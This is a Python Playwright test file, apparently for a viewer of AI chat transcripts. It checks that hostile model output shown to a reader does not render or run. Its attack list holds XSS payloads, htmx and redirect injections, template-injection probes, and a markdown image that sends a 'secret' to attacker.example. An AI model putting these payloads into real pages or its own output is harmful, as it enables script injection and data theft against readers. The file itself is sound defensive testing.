"""Model output that attacks its reader. The fixture fails on any request
that leaves, any refusal of the policy, any dialog, and when an attack ran."""

from playwright.sync_api import expect

from tests.browser.conftest import OpenPage
from tests.browser.talk import say
from tests.serving import Server

ATTACKS = [
    "<script>window.attacked = 1</script>",
    "<img src=x onerror='window.attacked = 1'>",
    "<svg onload='window.attacked = 1'><use href='#x'/></svg>",
    "![pixel](https://attacker.example/pixel.png?secret)",
    '![x](x"onerror="window.attacked=1)',
    "[click](javascript:window.attacked=1)",
    "[click](data:text/html,<script>window.attacked=1</script>)",
    "<a href='https://attacker.example' data-nav>x</a>",
    "[out](https://attacker.example/page)",
    "<https://attacker.example/auto>",
    "<iframe src='https://attacker.example'></iframe>",
    "<div hx-get='https://attacker.example' hx-trigger='load'>x</div>",
    "<hx-partial hx-target='body'>x</hx-partial>",
    "<template hx type='partial' hx-target='body'>x</template>",
    "<details open ontoggle='window.attacked=1'>x</details>",
    "<form action='https://attacker.example'><input autofocus onfocus='window.attacked=1'></form>",
    "<link rel=stylesheet href='https://attacker.example/a.css'>",
    "<base href='https://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "<style>@import 'https://attacker.example/a.css'</style>",
    "```html\n<script>window.attacked = 1</script>\n```",
    '```"><script>window.attacked=1</script>\nx\n```',
    "`<script>window.attacked = 1</script>`",
    "</div></article></main></body><script>window.attacked = 1</script>",
    "{{ 7 * 7 }} {% raw %} ${7*7}",
    "\u202egnp.exe\u202c and \u0000 and \ufffe",
]


def test_a_transcript_full_of_attacks_does_nothing(server: Server, open_page: OpenPage) -> None:
    say(server, ATTACKS[0], *[(attack, attack) for attack in ATTACKS])
    page = open_page()
    expect(page.locator(".ledger .first")).to_have_text([ATTACKS[0]])
    page.locator(".ledger .first").click()
    expect(page.locator(".turn")).to_have_count(len(ATTACKS))
    for turn in page.locator(".turn").all():
        turn.scroll_into_view_if_needed()
    flow = page.locator(".talk-flow")
    for bad in ("script", "img", "iframe", "form", "input", "link", "base", "meta", "style"):
        expect(flow.locator(bad)).to_have_count(0)
    expect(flow.locator("[onerror], [onload], [hx-get], [style], [src]")).to_have_count(0)
    links = flow.locator(".md a").evaluate_all("all => all.map(a => [a.href, a.rel])")
    assert links == [
        ["https://attacker.example/page", "noopener nofollow noreferrer"],
        ["https://attacker.example/auto", "noopener nofollow noreferrer"],
    ]
    expect(flow).to_contain_text("[image: pixel]")
    expect(flow).to_contain_text("{{ 7 * 7 }}")
    page.locator("#opened").get_by_role("link", name="Traces").click()
    expect(page.locator(".insp")).to_have_count(1)


def test_hostile_names_stay_text_everywhere(server: Server, open_page: OpenPage) -> None:
    attack = "\"><img src=x onerror='window.attacked=1'>"
    say(server, attack, (attack, attack), **{"user.id": attack, "gen_ai.response.model": attack})
    page = open_page()
    expect(page.locator(".ledger .sid")).to_have_text([attack])
    page.locator(".ledger .first").click()
    expect(page.locator(".dh__id span")).to_have_text(attack)
    page.locator("#opened").get_by_role("link", name="Traces").click()
    page.locator(".tree a.t").first.click()
    expect(page.locator("img")).to_have_count(0)
